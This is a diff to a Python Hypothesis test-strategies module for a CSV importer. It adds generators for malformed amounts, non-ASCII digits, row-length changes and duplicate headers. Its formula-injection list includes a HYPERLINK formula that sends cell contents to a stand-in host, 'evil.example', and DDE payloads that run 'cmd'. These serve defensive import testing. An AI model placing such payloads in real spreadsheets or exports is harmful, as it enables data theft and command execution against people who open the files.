@@ -702,7 +702,7 @@ dates_outside_range = st.one_of(
 )
 """Business dates outside rules.DATE_MIN..DATE_MAX: refused by every command and query."""
 
-non_ascii_digits = st.characters(categories=["Nd"]).filter(lambda c: not c.isascii())
+other_script_digits = st.characters(categories=["Nd"]).filter(lambda c: not c.isascii())
 
 
 @st.composite
@@ -720,7 +720,7 @@ def bad_amount_texts(draw: st.DrawFn) -> str:
         return f"{digits[:at]}_{digits[at:]}.{cents:02d}"
     if spoil == "digit":  # "１２.00", "١٢": another script's digit for one of ours
         at = draw(st.integers(0, len(plain) - 1).filter(lambda i: plain[i].isdigit()))
-        return plain[:at] + draw(non_ascii_digits) + plain[at + 1 :]
+        return plain[:at] + draw(other_script_digits) + plain[at + 1 :]
     if spoil == "space":  # "1 000.00", "1\u00a0000.00": a space inside the figure
         digits = "1" + str(units)
         at = draw(st.integers(1, len(digits) - 1))
@@ -732,3 +732,67 @@ def bad_amount_texts(draw: st.DrawFn) -> str:
     if spoil == "exponent":  # a figure a spreadsheet has already rounded
         return plain + draw(st.sampled_from(["e3", "E+2", "e-1", "E0"]))
     return draw(st.sampled_from(["+-", "-+", "--", "++"])) + plain
+
+
+# Import files and CSV outputs (issue 9: items 2, 13 and 16) -----------------------------------
+# Kept apart from the other bad-input strategies: what a CSV cell, row or header can be that an
+# import must refuse, and text a spreadsheet would evaluate.
+
+FORMULA_STARTS_TEXT: Final = "=+-@\t\r"
+"""The first characters that make a spreadsheet evaluate a cell (OWASP)."""
+
+csv_texts = st.text(
+    st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30
+)
+"""Any text a CSV cell can hold (no lone surrogates, no NUL)."""
+
+formula_texts = st.builds(
+    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS_TEXT), csv_texts
+) | st.sampled_from(
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "'=1+1",
+        "-12.00",  # a plain number: left as it is
+        "-1.5E+3",
+    ]
+)
+"""Text beginning as a formula would (and a few plain numbers, which are not formulas)."""
+
+non_ascii_digits = st.characters(categories=["Nd", "No"]).filter(
+    lambda character: character.isdigit() and not character.isascii()
+)
+"""Characters ``str.isdigit`` calls digits that are not 0-9: other scripts' digits (which
+``int`` reads), superscripts and circled digits (which it cannot)."""
+
+
+@st.composite
+def non_ascii_digit_texts(draw: st.DrawFn, length_max: int = 3) -> str:
+    """A number of days with at least one digit other than 0-9 among ASCII ones."""
+    digits = draw(st.lists(st.sampled_from(string.digits), max_size=length_max - 1))
+    digits.insert(draw(st.integers(0, len(digits))), draw(non_ascii_digits))
+    return "".join(digits)
+
+
+@st.composite
+def cell_count_changes(draw: st.DrawFn, columns: int) -> int:
+    """How many cells to add to (positive) or take from (negative) a row of ``columns``; never
+    zero, and never all of them (a row of no cells is a blank line)."""
+    return draw(st.integers(-(columns - 1), 3).filter(lambda change: change != 0))
+
+
+@st.composite
+def repeated_column_names(draw: st.DrawFn, header: list[str]) -> list[str]:
+    """``header`` with one column named like another (maybe padded with spaces, which the
+    importer strips)."""
+    first, second = sorted(
+        draw(st.lists(st.sampled_from(range(len(header))), min_size=2, max_size=2, unique=True))
+    )
+    renamed = list(header)
+    renamed[second] = draw(st.sampled_from(["", " ", "  "])) + header[first]
+    return renamed
